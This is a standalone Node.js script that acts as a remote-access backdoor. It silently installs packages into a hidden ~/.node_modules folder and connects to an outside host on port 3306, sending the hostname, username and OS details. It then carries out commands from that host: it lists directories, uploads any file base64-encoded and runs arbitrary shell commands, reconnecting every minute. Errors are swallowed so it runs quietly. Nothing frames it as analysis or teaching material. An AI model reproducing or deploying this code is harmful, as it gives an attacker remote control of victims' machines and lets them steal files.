(function () {
  const os = require('os'), fs = require('fs'), path = require('path'), net = require('net');
  const { exec, execSync } = require('child_process');
  const home = path.join(os.homedir(), '.node_modules');
  const server = { host: '203.0.113.133', port: 3306 };
  try { if (!fs.existsSync(home)) fs.mkdirSync(home); } catch (error) {}
  try { execSync('npm install --prefix "' + home + '" --registry https://registry.example axios socket.io-client', { stdio: 'ignore' }); } catch (error) {}
  process.env.PATH = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'Python', 'Python3127') + path.delimiter + process.env.PATH;
  const id = os.hostname() + '$' + os.userInfo().username;
  function open() {
    const socket = net.connect(server.port, server.host, () => socket.write(JSON.stringify({ id, os: os.platform() + ' ' + os.release(), cwd: process.cwd() }) + '\n'));
    socket.on('data', (chunk) => {
      const words = chunk.toString().trim().split(' ');
      const rest = words.slice(1).join(' ');
      switch (words[0]) {
        case 'cd': try { process.chdir(rest); } catch (error) {} break;
        case 'ss_dir': socket.write(JSON.stringify(fs.readdirSync(rest || '.')) + '\n'); break;
        case 'ss_upf': socket.write(fs.readFileSync(rest).toString('base64') + '\n'); break;
        case 'ss_stop': socket.end(); break;
        default: exec(chunk.toString(), { cwd: process.cwd() }, (error, out, err) => socket.write(JSON.stringify({ out, err }) + '\n'));
      }
    });
    socket.on('error', () => setTimeout(open, 60000));
  }
  open();
})();
